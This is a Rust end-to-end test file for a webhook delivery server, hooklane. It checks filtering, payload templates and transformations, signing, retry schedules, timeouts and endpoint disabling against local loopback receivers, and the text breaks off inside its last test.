//! Outbound delivery, end to end: the real server delivering to real loopback receivers.

mod common;

use std::collections::HashSet;
use std::time::{Duration, Instant};

use base64::engine::general_purpose::STANDARD as B64;
use base64::Engine;
use common::*;
use serde_json::{json, Value};

const WAIT: Duration = Duration::from_secs(15);

fn ids(received: &[Received]) -> HashSet<String> {
    received.iter().map(|r| r.header("webhook-id").to_string()).collect()
}

/// Lets in-flight deliveries land, so "nothing more arrived" means something.
async fn settle() {
    tokio::time::sleep(Duration::from_millis(700)).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fan_out_respects_filter_types_channels_and_disabled() {
    let server = Server::start("").await;
    let (all, typed, eu, off) =
        (Receiver::start().await, Receiver::start().await, Receiver::start().await, Receiver::start().await);
    let app = server.create_app("fanout").await;
    server.create_endpoint(&app, json!({ "url": all.url })).await;
    server.create_endpoint(&app, json!({ "url": typed.url, "filterTypes": ["user.created"] })).await;
    server.create_endpoint(&app, json!({ "url": eu.url, "channels": ["eu"] })).await;
    server.create_endpoint(&app, json!({ "url": off.url, "disabled": true })).await;

    let created = server.send_message(&app, "user.created", json!({ "n": 1 })).await;
    let body = json!({ "eventType": "order.paid", "payload": { "n": 2 }, "channels": ["eu", "us"] });
    let (status, out) = server.call("POST", &format!("/api/v1/app/{app}/msg"), Some(body)).await;
    assert_eq!(status, 202, "{out}");
    let paid = out["id"].as_str().unwrap().to_string();

    all.wait_for(2, WAIT).await;
    typed.wait_for(1, WAIT).await;
    eu.wait_for(1, WAIT).await;
    settle().await;
    assert_eq!(ids(&all.received()), HashSet::from([created.clone(), paid.clone()]));
    assert_eq!(ids(&typed.received()), HashSet::from([created.clone()]));
    assert_eq!(ids(&eu.received()), HashSet::from([paid.clone()]));
    assert!(off.received().is_empty(), "a disabled endpoint received a message");

    // The message's destinations say the same.
    let dest = server.call("GET", &format!("/api/v1/app/{app}/msg/{created}/endpoint"), None).await.1;
    assert_eq!(dest["data"].as_array().unwrap().len(), 2, "{dest}");
}

/// hooklane's payload filters and transforms: an endpoint gets only the messages whose
/// payload passes its filter, and is sent what its template makes of each, signed as sent;
/// both can be changed and cleared through the API, and bad ones are refused with the
/// place of the problem.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn payload_filters_and_transforms_shape_what_each_endpoint_gets() {
    let server = Server::start("").await;
    let (big, chat) = (Receiver::start().await, Receiver::start().await);
    let app = server.create_app("rules").await;
    let secret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let (big_id, _) = server
        .create_endpoint(
            &app,
            json!({ "url": big.url, "payloadFilter": { "order": { "total": { "$gte": 100 } }, "status": { "$in": ["paid", "refunded"] } } }),
        )
        .await;
    let template = json!({
        "text": "Order {{ order.id }} by {{customer.name}}: {{ order.total }} {{ currency }}",
        "order": "{{ order }}",
        "first_item": "{{ order.items.0.sku }}",
        "missing": "{{ no.such.field }}",
        "fixed": [1, true, null],
    });
    let (chat_id, _) =
        server.create_endpoint(&app, json!({ "url": chat.url, "transform": template, "secret": secret })).await;
    let (status, ep) = server.call("GET", &format!("/api/v1/app/{app}/endpoint/{chat_id}"), None).await;
    assert_eq!(status, 200, "{ep}");
    assert_eq!(ep["transform"], template);
    assert!(ep.get("payloadFilter").is_none(), "unset rules are left out of answers: {ep}");

    let order = |id: u32, total: u32, status: &str| {
        json!({ "order": { "id": id, "total": total, "items": [{ "sku": format!("sku-{id}") }] }, "status": status,
                "customer": { "name": "Ada" }, "currency": "EUR" })
    };
    // Tried first without posting anything: the endpoint's own rules, or others given.
    let server_ref = &server;
    let preview = |ep: &str, body: serde_json::Value| {
        let path = format!("/api/v1/app/{app}/endpoint/{ep}/preview");
        async move { server_ref.call("POST", &path, Some(body)).await }
    };
    let (status, out) = preview(&big_id, json!({ "payload": order(1, 20, "paid") })).await;
    assert_eq!((status, out["wanted"].clone()), (200, json!(false)), "{out}");
    assert_eq!(out["body"], order(1, 20, "paid"));
    let (_, out) = preview(&big_id, json!({ "payload": order(2, 250, "paid") })).await;
    assert_eq!(out["wanted"], true, "{out}");
    let (_, out) =
        preview(&big_id, json!({ "payload": order(3, 5, "new"), "payloadFilter": { "status": "new" } })).await;
    assert_eq!(out["wanted"], true, "a filter given is tried instead: {out}");
    let (_, out) = preview(&big_id, json!({ "payload": order(3, 5, "new"), "payloadFilter": null })).await;
    assert_eq!(out["wanted"], true, "null: no filter: {out}");
    let (_, out) = preview(&chat_id, json!({ "payload": order(7, 9, "paid") })).await;
    assert_eq!(out["body"]["text"], "Order 7 by Ada: 9 EUR", "{out}");
    let (_, out) = preview(&chat_id, json!({ "payload": { "a": 1 }, "transform": ["{{ a }}", "{{ b }}"] })).await;
    assert_eq!(out["body"], json!([1, null]), "{out}");
    let (status, out) = preview(&big_id, json!({ "payload": {}, "payloadFilter": { "x": { "$between": 1 } } })).await;
    assert_eq!((status, out["detail"][0]["loc"].clone()), (422, json!(["body", "payloadFilter.x.$between"])), "{out}");
    let copies = serde_json::Value::Array(vec![json!("{{ $ }}"); 100]);
    let (status, out) =
        preview(&chat_id, json!({ "payload": { "pad": "p".repeat(100_000) }, "transform": copies })).await;
    assert_eq!((status, out["detail"][0]["loc"].clone()), (422, json!(["body", "transform"])), "{out}");
    let (status, _) = preview("ep_unknown", json!({ "payload": {} })).await;
    assert_eq!(status, 404);
    // A JavaScript transformation is tried the same way, after the transform.
    let code = "function handler(w) { w.method = 'PUT'; w.url += '/x'; w.headers.T = w.eventType; \
                w.payload = { got: w.payload.text }; w.cancel = w.payload.got === undefined; return w }";
    let (status, out) =
        preview(&chat_id, json!({ "payload": order(7, 9, "paid"), "transformation": code, "eventType": "o.u" })).await;
    assert_eq!(status, 200, "{out}");
    assert_eq!(
        (&out["body"], &out["method"], &out["url"], &out["headers"], &out["cancelled"]),
        (
            &json!({ "got": "Order 7 by Ada: 9 EUR" }),
            &json!("PUT"),
            &json!(format!("{}/x", chat.url)),
            &json!({ "T": "o.u" }),
            &json!(false)
        ),
        "{out}"
    );
    let (_, out) = preview(&big_id, json!({ "payload": { "a": 1 }, "transformation": code })).await;
    assert_eq!((&out["cancelled"], &out["body"]), (&json!(true), &json!({ "a": 1 })), "{out}");
    let (_, out) = preview(&big_id, json!({ "payload": { "a": 1 } })).await;
    assert_eq!((&out["method"], &out["url"], &out["cancelled"]), (&json!("POST"), &json!(big.url), &json!(false)));
    let (status, out) =
        preview(&big_id, json!({ "payload": {}, "transformation": "function handler(w) { throw new Error('no') }" }))
            .await;
    assert_eq!((status, out["detail"][0]["loc"].clone()), (422, json!(["body", "transformation"])), "{out}");
    assert!(out["detail"][0]["msg"].as_str().unwrap().contains("Error: no"), "{out}");

    let small = server.send_message(&app, "order.updated", order(1, 20, "paid")).await;
    let large = server.send_message(&app, "order.updated", order(2, 250, "paid")).await;
    let pending = server.send_message(&app, "order.updated", order(3, 500, "pending")).await;
    let refunded = server.send_message(&app, "order.updated", order(4, 100, "refunded")).await;

    chat.wait_for(4, WAIT).await;
    big.wait_for(2, WAIT).await;
    settle().await;
    assert_eq!(ids(&big.received()), HashSet::from([large.clone(), refunded.clone()]));
    // The unfiltered endpoint gets every message, each transformed and signed as sent.
    let got = chat.received();
    assert_eq!(ids(&got), HashSet::from([small.clone(), large.clone(), pending.clone(), refunded.clone()]));
    let r = got.iter().find(|r| r.header("webhook-id") == large).unwrap();
    assert_eq!(
        r.json(),
        json!({
            "text": "Order 2 by Ada: 250 EUR",
            "order": { "id": 2, "total": 250, "items": [{ "sku": "sku-2" }] },
            "first_item": "sku-2",
            "missing": null,
            "fixed": [1, true, null],
        })
    );
    assert_eq!(r.header("content-type"), "application/json");
    assert!(signature_valid(secret, r), "the transformed body is what is signed");
    // The message itself keeps its payload.
    let (_, msg) = server.call("GET", &format!("/api/v1/app/{app}/msg/{large}"), None).await;
    assert_eq!(msg["payload"], order(2, 250, "paid"));

    // A late endpoint replaying what it missed gets only what its filter lets through.
    let late_rx = Receiver::start().await;
    let (late_ep, _) =
        server.create_endpoint(&app, json!({ "url": late_rx.url, "payloadFilter": { "status": "refunded" } })).await;
    let since = json!({ "since": chrono::Utc::now() - chrono::Duration::hours(1) });
    let (status, out) =
        server.call("POST", &format!("/api/v1/app/{app}/endpoint/{late_ep}/replay-missing"), Some(since)).await;
    assert_eq!((status, out["replayed"].clone()), (202, json!(1)), "{out}");
    late_rx.wait_for_ids(std::slice::from_ref(&refunded), WAIT).await;
    settle().await;
    assert_eq!(ids(&late_rx.received()), HashSet::from([refunded.clone()]));

    // A PUT that does not name them (as Svix's SDKs send it) keeps them; null clears one.
    let (status, out) = server
        .call(
            "PUT",
            &format!("/api/v1/app/{app}/endpoint/{chat_id}"),
            Some(json!({ "url": chat.url, "description": "x" })),
        )
        .await;
    assert_eq!(status, 200, "{out}");
    assert_eq!((out["transform"].clone(), out["description"].clone()), (template.clone(), json!("x")), "{out}");
    let (_, out) = server
        .call(
            "PUT",
            &format!("/api/v1/app/{app}/endpoint/{late_ep}"),
            Some(json!({ "url": late_rx.url, "payloadFilter": null })),
        )
        .await;
    assert!(out.get("payloadFilter").is_none(), "{out}");

    // Cleared by PATCH with null: everything again, as posted.
    let path = format!("/api/v1/app/{app}/endpoint/{big_id}");
    let (status, out) = server.call("PATCH", &path, Some(json!({ "payloadFilter": null }))).await;
    assert_eq!(status, 200, "{out}");
    assert!(out.get("payloadFilter").is_none(), "{out}");
    let cheap = server.send_message(&app, "order.updated", order(5, 1, "paid")).await;
    let got = big.wait_for(3, WAIT).await;
    let r = got.iter().find(|r| r.header("webhook-id") == cheap).expect("the unfiltered endpoint got it");
    assert_eq!(r.json(), order(5, 1, "paid"));

    // Bad rules: 422 naming where the problem is; nothing changed.
    for (body, field) in [
        (json!({ "payloadFilter": { "total": { "$between": [1, 2] } } }), "payloadFilter.total.$between"),
        (json!({ "payloadFilter": ["not", "an", "object"] }), "payloadFilter"),
        (json!({ "transform": { "text": "{{ order.id" } }), "transform.text"),
        (json!({ "transform": { "text": "x".repeat(70_000) } }), "transform"),
    ] {
        let (status, out) = server.call("PATCH", &path, Some(body.clone())).await;
        assert_eq!(status, 422, "{body}: {out}");
        assert_eq!(out["code"], "validation", "{out}");
        assert_eq!(out["detail"][0]["loc"], json!(["body", field]), "{body}: {out}");
    }
    let (_, ep) = server.call("GET", &path, None).await;
    assert!(ep.get("payloadFilter").is_none() && ep.get("transform").is_none(), "{ep}");

    // A template that would blow a payload up by more than 4 MiB (a hundred copies of a
    // 100 kB payload) stops making the body: the delivery fails at once, saying why, with no
    // retry, and nothing is sent. Ten copies go out.
    let blowup = Receiver::start().await;
    let copies = |n: usize| serde_json::Value::Array(vec![json!("{{ $ }}"); n]);
    let (blowup_id, _) = server.create_endpoint(&app, json!({ "url": blowup.url, "transform": copies(100) })).await;
    let padded = json!({ "pad": "p".repeat(100_000) });
    let too_big = server.send_message(&app, "padded", padded.clone()).await;
    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/endpoint/{blowup_id}"), WAIT, |page| {
            page["data"].as_array().is_some_and(|d| !d.is_empty())
        })
        .await;
    let response = attempts["data"][0]["response"].as_str().unwrap_or_default();
    assert!(response.contains("more than 4 MiB larger than the payload"), "{attempts}");
    let (_, dest) = server.call("GET", &format!("/api/v1/app/{app}/msg/{too_big}/endpoint"), None).await;
    let dest = dest["data"].as_array().unwrap().iter().find(|d| d["id"] == blowup_id.as_str()).unwrap().clone();
    assert_eq!((dest["status"].clone(), dest["nextAttempt"].clone()), (json!(2), json!(null)), "given up: {dest}");
    assert!(blowup.received().is_empty());
    let (status, out) = server
        .call("PATCH", &format!("/api/v1/app/{app}/endpoint/{blowup_id}"), Some(json!({ "transform": copies(10) })))
        .await;
    assert_eq!(status, 200, "{out}");
    let fits = server.send_message(&app, "padded", padded).await;
    blowup.wait_for_ids(std::slice::from_ref(&fits), WAIT).await;
    assert_eq!(blowup.received()[0].json().as_array().map(Vec::len), Some(10));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn delivery_is_signed_byte_exact_with_custom_headers() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("signing").await;
    let secret = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let spec = json!({ "url": format!("{}/in/hook?x=1", rx.url), "secret": secret, "headers": { "X-Tenant": "acme" } });
    let (_, got_secret) = server.create_endpoint(&app, spec).await;
    assert_eq!(got_secret, secret);

    // Sent as raw text, with spacing a re-serialiser would change.
    let raw = r#"{"eventType":"user.created","payload":{"b": 2,  "a":[1, 2.50, "é"]}}"#;
    let resp = server
        .client
        .post(server.url(&format!("/api/v1/app/{app}/msg/")))
        .header("authorization", format!("Bearer {ADMIN}"))
        .header("content-type", "application/json")
        .body(raw)
        .send()
        .await
        .unwrap();
    let (status, out) = read(resp).await;
    assert_eq!(status, 202, "{out}");

    let got = rx.wait_for(1, WAIT).await;
    let r = &got[0];
    assert_eq!(r.path, "/in/hook");
    assert_eq!(std::str::from_utf8(&r.body).unwrap(), r#"{"b": 2,  "a":[1, 2.50, "é"]}"#);
    assert_eq!(r.header("webhook-id"), out["id"].as_str().unwrap());
    assert_eq!(r.header("content-type"), "application/json");
    assert_eq!(r.header("x-tenant"), "acme");
    let ts: i64 = r.header("webhook-timestamp").parse().unwrap();
    assert!((chrono::Utc::now().timestamp() - ts).abs() < 10, "timestamp {ts} is not now");
    assert!(signature_valid(secret, r), "signature does not verify: {:?}", r.headers);
    // A different secret must not verify: the check above can fail.
    assert!(!signature_valid("whsec_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", r));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_attempts_are_retried_on_schedule_with_the_same_id() {
    let server = Server::start("").await;
    let rx = Receiver::scripted(|n, _| Reply::Status(if n < 2 { 500 } else { 200 })).await;
    let app = server.create_app("retry").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let msg = server.send_message(&app, "a.b", json!({})).await;

    let got = rx.wait_for(3, WAIT).await;
    assert!(got.iter().all(|r| r.header("webhook-id") == msg));
    // Schedule in tests: 200 ms, 400 ms, 800 ms.
    let gap1 = got[1].at - got[0].at;
    let gap2 = got[2].at - got[1].at;
    assert!(gap1 >= Duration::from_millis(190), "{gap1:?}");
    assert!(gap2 >= Duration::from_millis(390), "{gap2:?}");

    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/msg/{msg}/"), WAIT, |b| {
            b["data"].as_array().unwrap().len() == 3
        })
        .await;
    let codes: Vec<i64> =
        attempts["data"].as_array().unwrap().iter().map(|a| a["responseStatusCode"].as_i64().unwrap()).collect();
    assert_eq!(codes, vec![200, 500, 500], "newest first");
    let statuses: Vec<i64> =
        attempts["data"].as_array().unwrap().iter().map(|a| a["status"].as_i64().unwrap()).collect();
    assert_eq!(statuses, vec![0, 2, 2]);
    let by_ep = server.call("GET", &format!("/api/v1/app/{app}/attempt/endpoint/{ep}?status=2"), None).await.1;
    assert_eq!(by_ep["data"].as_array().unwrap().len(), 2, "{by_ep}");
    let one = &attempts["data"][0];
    let (status, single) =
        server.call("GET", &format!("/api/v1/app/{app}/msg/{msg}/attempt/{}", one["id"].as_str().unwrap()), None).await;
    assert_eq!(status, 200);
    assert_eq!(single["id"], one["id"]);
    assert_eq!(single["endpointId"], ep);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gives_up_after_the_last_scheduled_attempt() {
    let server = Server::start("").await;
    let rx = Receiver::scripted(|_, _| Reply::Status(500)).await;
    let app = server.create_app("giveup").await;
    server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let msg = server.send_message(&app, "a.b", json!({})).await;
    // One immediate attempt plus three retries.
    rx.wait_for(4, WAIT).await;
    let dest = server
        .wait_until(&format!("/api/v1/app/{app}/msg/{msg}/endpoint"), WAIT, |b| b["data"][0]["status"] == 2)
        .await;
    assert!(dest["data"][0]["nextAttempt"].is_null(), "{dest}");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(rx.received().len(), 4, "attempted again after giving up");
}

/// An endpoint's own retry schedule instead of the server's: its waits, as many retries as
/// it lists (none for `[]`), the server's again after `null`; checked when set.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endpoint_retries_on_its_own_schedule() {
    // The server's: 200 ms, 400 ms, 800 ms (the base config): four attempts.
    let server = Server::start("").await;
    let slow = Receiver::scripted(|_, _| Reply::Status(500)).await;
    let none = Receiver::scripted(|_, _| Reply::Status(500)).await;
    let app = server.create_app("own-schedule").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": slow.url, "retrySchedule": ["1s", "1s"] })).await;
    server.create_endpoint(&app, json!({ "url": none.url, "retrySchedule": [] })).await;
    let (_, got) = server.call("GET", &format!("/api/v1/app/{app}/endpoint/{ep}"), None).await;
    assert_eq!(got["retrySchedule"], json!(["1s", "1s"]), "{got}");
    let msg = server.send_message(&app, "a.b", json!({})).await;
    let got = slow.wait_for(3, WAIT).await;
    for pair in got.windows(2) {
        let waited = pair[1].at - pair[0].at;
        assert!(waited >= Duration::from_millis(950), "waited {waited:?}, not the endpoint's 1s");
    }
    let dests = server
        .wait_until(&format!("/api/v1/app/{app}/msg/{msg}/endpoint"), WAIT, |b| {
            b["data"].as_array().is_some_and(|d| d.len() == 2 && d.iter().all(|e| e["status"] == 2))
        })
        .await;
    assert!(dests["data"].as_array().unwrap().iter().all(|d| d["nextAttempt"].is_null()), "{dests}");
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(slow.received().len(), 3, "two retries, as listed");
    assert_eq!(none.received().len(), 1, "no retry at all");

    // `null`: the server's schedule again (four attempts, 200 ms apart at first).
    let path = format!("/api/v1/app/{app}/endpoint/{ep}");
    let (status, body) = server.call("PATCH", &path, Some(json!({ "retrySchedule": null }))).await;
    assert_eq!(status, 200, "{body}");
    assert!(body.get("retrySchedule").is_none(), "{body}");
    server.send_message(&app, "a.b", json!({})).await;
    slow.wait_for(7, WAIT).await;

    // Checked where it is set.
    let too_many: Vec<&str> = vec!["1s"; 21];
    for (bad, says) in [
        (json!(["0s"]), "between 1s and 7days"),
        (json!(["8days"]), "between 1s and 7days"),
        (json!(too_many), "at most 20"),
        (json!(["soon"]), "not a duration"),
        (json!(["1s 500us"]), "whole milliseconds"),
    ] {
        let (status, body) = server.call("PATCH", &path, Some(json!({ "retrySchedule": bad }))).await;
        assert_eq!(status, 422, "{bad}: {body}");
        assert!(body.to_string().contains(says), "{bad}: {body}");
    }

    // Inbound destinations take one too.
    let (status, src) = server
        .call(
            "POST",
            "/api/v1/source",
            Some(json!({
                "name": "with retries",
                "verification": { "type": "none" },
                "destinations": [{ "url": slow.url, "retrySchedule": ["10s", "1m"] }],
            })),
        )
        .await;
    assert_eq!(status, 201, "{src}");
    assert_eq!(src["destinations"][0]["retrySchedule"], json!(["10s", "1m"]), "{src}");
    let (status, body) = server
        .call(
            "PATCH",
            &format!("/api/v1/source/{}", src["id"].as_str().unwrap()),
            Some(json!({ "destinations": [{ "id": src["destinations"][0]["id"], "url": slow.url, "retrySchedule": ["0s"] }] })),
        )
        .await;
    assert_eq!(status, 422, "{body}");
    assert_eq!(body["detail"][0]["loc"], json!(["body", "destinations.retrySchedule"]), "{body}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retry_after_is_honoured() {
    let server = Server::start("[delivery]\nretry_schedule = [\"200ms\", \"200ms\"]").await;
    let rx =
        Receiver::scripted(
            |n, _| {
                if n == 0 {
                    Reply::WithHeader(429, "retry-after", "2".into())
                } else {
                    Reply::Status(200)
                }
            },
        )
        .await;
    let app = server.create_app("retry-after").await;
    server.create_endpoint(&app, json!({ "url": rx.url })).await;
    server.send_message(&app, "a.b", json!({})).await;
    let got = rx.wait_for(2, WAIT).await;
    let gap = got[1].at - got[0].at;
    // Retry-After: 2 lengthens the 200 ms of the schedule.
    assert!(gap >= Duration::from_millis(1950), "{gap:?}");
}

/// A `Retry-After` date is counted from when the answer came: a receiver that answers after
/// 4 s asking for 2 s more (1 to 2 s, the date being in whole seconds) is tried again 5 to
/// 6 s after the request, not 9 to 10 s (the date measured from when the request was signed).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retry_after_date_counts_from_the_answer() {
    let server = Server::start("[delivery]\nretry_schedule = [\"200ms\", \"200ms\"]").await;
    let rx =
        Receiver::scripted(
            |n, _| {
                if n == 0 {
                    Reply::LateRetryAt(Duration::from_secs(4), 2)
                } else {
                    Reply::Status(200)
                }
            },
        )
        .await;
    let app = server.create_app("retry-after-date").await;
    server.create_endpoint(&app, json!({ "url": rx.url })).await;
    server.send_message(&app, "a.b", json!({})).await;
    let got = rx.wait_for(2, WAIT).await;
    let gap = got[1].at - got[0].at;
    assert!(gap >= Duration::from_millis(4_500) && gap < Duration::from_millis(8_500), "{gap:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hanging_receiver_times_out_and_is_retried() {
    let server = Server::start("[delivery]\nrequest_timeout = \"500ms\"\nconnect_timeout = \"500ms\"").await;
    // The first request hangs until the test lets it go: the retry comes while it still does.
    let hang = Gate::new();
    let rx = Receiver::scripted({
        let hang = hang.clone();
        move |n, _| if n == 0 { Reply::Held(hang.clone(), 200) } else { Reply::Status(200) }
    })
    .await;
    let app = server.create_app("timeout").await;
    server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let msg = server.send_message(&app, "a.b", json!({})).await;
    rx.wait_for(2, WAIT).await;
    hang.open();
    let attempts = server
        .wait_until(&format!("/api/v1/app/{app}/attempt/msg/{msg}"), WAIT, |b| b["data"].as_array().unwrap().len() == 2)
        .await;
    let first = &attempts["data"][1];
    assert_eq!(first["responseStatusCode"], 0);
    assert_eq!(first["status"], 2);
    assert!(first["response"].as_str().unwrap().contains("timed out"), "{first}");
    assert!(first["responseDurationMs"].as_i64().unwrap() >= 450);
}

/// A receiver on loopback speaking raw HTTP/1.1: each request's path is noted, then it answers
/// `200` with a `Content-Length` of 100 but writes 2 bytes, and closes (`/short`) or holds
/// the connection open, the body unfinished, until the client closes it (`/slow`).
async fn cut_body_receiver() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let paths = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let seen = paths.clone();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            let seen = seen.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                // The whole request: its head, then as many bytes as its Content-Length says.
                let path = loop {
                    let Ok(n) = conn.read(&mut chunk).await else { return };
                    if n == 0 {
                        return;
                    }
                    buf.extend_from_slice(&chunk[..n]);
                    let text = String::from_utf8_lossy(&buf).to_string();
                    let Some(end) = text.find("\r\n\r\n") else { continue };
                    let length = text[..end]
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().to_string())
                        })
                        .and_then(|v| v.parse::<usize>().ok())
                        .unwrap_or(0);
                    if buf.len() >= end + 4 + length {
                        break text.split(' ').nth(1).unwrap_or_default().to_string();
                    }
                };
                seen.lock().unwrap().push(path.clone());
                let _ = conn.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nok").await;
                if path == "/slow" {
                    // Till the client gives up (its request's timeout): nothing more is read.
                    while matches!(conn.read(&mut chunk).await, Ok(n) if n > 0) {}
                }
                let _ = conn.shutdown().await;
            });
        }
    });
    (url, paths)
}

/// A receiver whose answer has come, 200, but whose body then ends short of its length or
/// outlasts the request's time has taken the message: the attempt succeeds with that status,
/// says the body was not read to its end, and the message is not sent again.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_whose_body_is_cut_keeps_its_status() {
    let server = Server::start(
        "[delivery]\nrequest_timeout = \"5s\"\nconnect_timeout = \"5s\"\nretry_schedule = [\"100ms\", \"100ms\"]",
    )
    .await;
    let (url, paths) = cut_body_receiver().await;
    let app = server.create_app("cut-body").await;
    server.create_endpoint(&app, json!({ "url": format!("{url}/short"), "filterTypes": ["short"] })).await;
    server.create_endpoint(&app, json!({ "url": format!("{url}/slow"), "filterTypes": ["slow"] })).await;
    for kind in ["short", "slow"] {
        let msg = server.send_message(&app, kind, json!({})).await;
        let attempts = attempts_of(&server, &app, &msg, 1).await;
        let first = &attempts[0];
        assert_eq!(first["responseStatusCode"], 200, "{kind}: {first}");
        assert_eq!(first["status"], 0, "{kind}: {first}");
        let response = first["response"].as_str().unwrap_or_default();
        assert!(response.starts_with("ok") && response.contains("not read to"), "{kind}: {response}");
        if kind == "slow" {
            assert!(response.contains("timed out"), "{response}");
        }
    }
    // Time for the retries the schedule would have made (100 ms apart) had they failed.
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(*paths.lock().unwrap(), vec!["/short".to_string(), "/slow".to_string()], "each sent once");
}

/// Svix's delivery control: a receiver answering `webhook-delivery: abort-message` has that
/// message tried no more (failed after one attempt, while the schedule had retries), and
/// one answering `webhook-delivery: disable` has its endpoint disabled (after a success
/// here), so that the next message is not sent to it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_receiver_can_stop_retries_and_disable_its_endpoint() {
    let server = Server::start("[delivery]\nretry_schedule = [\"100ms\", \"100ms\", \"100ms\"]").await;
    let rx = Receiver::scripted(|_, r| match r.json()["do"].as_str() {
        Some("abort") => Reply::WithHeader(500, "webhook-delivery", "abort-message".into()),
        Some("disable") => Reply::WithHeader(200, "webhook-delivery", "Disable".into()),
        _ => Reply::Status(200),
    })
    .await;
    let app = server.create_app("control").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let aborted = server.send_message(&app, "a.b", json!({ "do": "abort" })).await;
    let failed = server
        .wait_until(&format!("/api/v1/app/{app}/msg/{aborted}/endpoint"), WAIT, |b| b["data"][0]["status"] == 2)
        .await;
    settle().await;
    assert_eq!(rx.received().len(), 1, "no retry after abort-message: {failed}");
    let (_, endpoint) = server.call("GET", &format!("/api/v1/app/{app}/endpoint/{ep}"), None).await;
    assert_eq!(endpoint["disabled"], false, "aborting a message leaves the endpoint");

    server.send_message(&app, "a.b", json!({ "do": "disable" })).await;
    server.wait_until(&format!("/api/v1/app/{app}/endpoint/{ep}"), WAIT, |b| b["disabled"] == true).await;
    let seen = rx.received().len();
    server.send_message(&app, "a.b", json!({ "do": "nothing" })).await;
    settle().await;
    assert_eq!(rx.received().len(), seen, "a disabled endpoint was still sent to");
    assert!(server.logs().contains("its receiver asked"), "the log says why");
}

/// A message whose content is deleted while its delivery waits in the engine (a rate limit
/// of one a second holds it in memory, with a copy of the content) is not sent: neither its
/// content nor `{}`. The same for every message of an application emptied at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn content_deleted_while_a_delivery_waits_is_not_sent() {
    let server = Server::start("").await;
    let rx = Receiver::start().await;
    let app = server.create_app("expunge").await;
    server.create_endpoint(&app, json!({ "url": rx.url, "rateLimit": 1 })).await;
    let first = server.send_message(&app, "a.b", json!({ "n": 1 })).await;
    let second = server.send_message(&app, "a.b", json!({ "n": 2, "secret": "gone" })).await;
    let third = server.send_message(&app, "a.b", json!({ "n": 3 })).await;
    rx.wait_for(1, WAIT).await;
    let (status, _) = server.call("DELETE", &format!("/api/v1/app/{app}/msg/{second}/content"), None).await;
    assert_eq!(status, 204);
    let got = rx.wait_for(2, WAIT).await;
    assert_eq!(
        [got[0].header("webhook-id"), got[1].header("webhook-id")],
        [first.as_str(), third.as_str()],
        "the second went out after its content was deleted"
    );
    // Every message at once: those waiting are not sent either.
    let waiting: Vec<String> = post_several(&server, &app, 3).await;
    let (status, task) = server.call("POST", &format!("/api/v1/app/{app}/msg/expunge-all-contents"), None).await;
    assert_eq!(status, 202, "{task}");
    tokio::time::sleep(Duration::from_millis(2500)).await;
    let sent: Vec<String> = rx.received().iter().skip(2).map(|r| r.header("webhook-id").to_string()).collect();
    assert!(sent.len() <= 1 && sent.iter().all(|id| *id == waiting[0]), "sent after the purge: {sent:?}");
    assert!(rx.received().iter().all(|r| !String::from_utf8_lossy(&r.body).contains("gone")));
}

/// Posts `n` messages, one after another; their ids.
async fn post_several(server: &Server, app: &str, n: usize) -> Vec<String> {
    let mut ids = Vec::new();
    for i in 0..n {
        ids.push(server.send_message(app, "a.b", json!({ "later": i })).await);
    }
    ids
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_endpoint_failing_too_long_is_disabled_and_can_be_recovered() {
    let extra = "[delivery]\ndisable_after = \"1s\"\nretry_schedule = [\"300ms\", \"300ms\", \"300ms\", \"300ms\", \"300ms\", \"300ms\", \"300ms\", \"300ms\", \"300ms\", \"300ms\"]";
    let server = Server::start(extra).await;
    let rx = Receiver::scripted(|_, _| Reply::Status(500)).await;
    let app = server.create_app("disable").await;
    let (ep, _) = server.create_endpoint(&app, json!({ "url": rx.url })).await;
    let since = chrono::Utc::now() - chrono::Duration::seconds(5);
    let first = server.send_message(&app, "a.b", json!({ "n": 1 })).await;
    server.wait_until(&format!("/api/v1/app/{app}/endpoint/{ep}"), WAIT, |b| b["disabled"] == true).await;

    // Disabled: the failed message is given up and new messages are not sent to it.
    server.wait_until(&format!("/api/v1/app/{app}/msg/{first}/endpoint"), WAIT, |b| b["data"][0]["status"] == 2).await;
    settle().await;
    let seen = rx.received().len();
    let second = server.send_message(&app, "a.b", json!({ "n": 2 })).await;
    settle().await;
